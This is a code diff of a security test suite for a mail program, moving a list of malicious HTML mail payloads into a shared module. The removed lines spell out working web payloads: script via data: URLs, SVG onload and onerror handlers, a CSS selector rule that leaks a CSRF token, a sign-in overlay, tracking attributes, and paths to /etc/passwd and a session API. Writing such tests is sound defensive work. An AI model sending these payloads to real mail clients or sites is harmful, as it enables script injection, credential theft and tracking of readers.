@@ -4,7 +4,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import { type ImapServer, startImap } from '../mail/imap-server.ts'
 import { mail, mailWith } from '../mail/mails.ts'
 import { openProgram, type Program, settled } from './browser.ts'
-import { payloads } from './payloads.ts'
+import { payloads, payloadsOfMails } from './payloads.ts'
 
 /**
  * More than 200 mails that browsers have run, sent to a real mailbox that the program watches, and read in a real
@@ -25,34 +25,6 @@ const PIXEL = Buffer.from(
   'base64',
 )
 
-/** Ways that mails have used beside what any page is attacked by. */
-const ofMails = (at: string) => [
-  // CVE-2026-34718: a data: address in the HTML of a ticket.
-  `<a href="data:text/html,<script>window.__ran=1</script>">x</a>`,
-  `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=1"><image href="${at}/svg"/></svg>`).toString('base64')}">`,
-  `<img src="data:image/png,x" onerror="window.__ran=1">`,
-  // CVE-2026-40497: a style that reads a secret of the page and sends it on.
-  `<style>input[name=csrf][value^=a]{background:url(${at}/csrf-a)}</style><p>Hello`,
-  `<p style="background-image:url(${at}/style)">Hello`,
-  `<p style="background:url('${at}/quoted')">Hello`,
-  `<p style="width:expression(alert(1));behavior:url(${at}/htc);-moz-binding:url(${at}/xbl)">Hello`,
-  `<p style="position:fixed;inset:0;z-index:99999">Please sign in again`,
-  `<div style="font-family:x;}@import url(${at}/broken-out);{">Hello`,
-  `<table background="${at}/table"><tr><td background="${at}/cell">x</td></tr></table>`,
-  `<body background="${at}/body">Hello`,
-  `<img srcset="${at}/srcset 2x" src="x">`,
-  `<picture><source srcset="${at}/source"><img src="x"></picture>`,
-  `<img src="//${at.slice(7)}/relative">`,
-  `<img lowsrc="${at}/lowsrc" dynsrc="${at}/dynsrc">`,
-  `<video poster="${at}/poster" src="${at}/video"></video>`,
-  `<input type=image src="${at}/input">`,
-  `<link rel="dns-prefetch" href="${at}">`,
-  `<a href="${at}/ping-target" ping="${at}/ping">x</a>`,
-  `<svg><image href="${at}/image"></image><feImage href="${at}/fe"></feImage></svg>`,
-  `<img src="cid:x" onerror="window.__ran=1"><img src="cid:../../../../api/session">`,
-  `<img src="/api/session"><img src="file:///etc/passwd"><img src="blob:${at}/x">`,
-]
-
 const until = async (check: () => Promise<boolean>, seconds: number) => {
   for (const end = Date.now() + seconds * 1000; Date.now() < end; ) {
     if (await check()) return
@@ -71,7 +43,7 @@ beforeAll(async () => {
   address = `http://127.0.0.1:${typeof bound === 'object' ? bound?.port : 0}`
   imap = await startImap()
   program = await openProgram()
-  const texts = [...payloads(address), ...ofMails(address)]
+  const texts = [...payloads(address), ...payloadsOfMails(address)]
   expect(texts.length).toBeGreaterThanOrEqual(200)
   const mails = texts.map((text, n) =>
     mail({
@@ -236,7 +208,7 @@ test('CVE-2026-44729: what was attached is saved, never shown', async () => {
 })
 
 test('the same mails bite where they are shown as they came: a browser runs them and fetches what they name', async () => {
-  const texts = [...payloads(address).filter((_, n) => n % 5 === 0), ...ofMails(address)]
+  const texts = [...payloads(address).filter((_, n) => n % 5 === 0), ...payloadsOfMails(address)]
   const bare = createServer((request, reply) => {
     const text = texts[Number(request.url?.slice(1))] ?? ''
     reply.setHeader('content-type', 'text/html; charset=utf-8').end(`<!doctype html><p>Number</p>${text}<p>after</p>`)
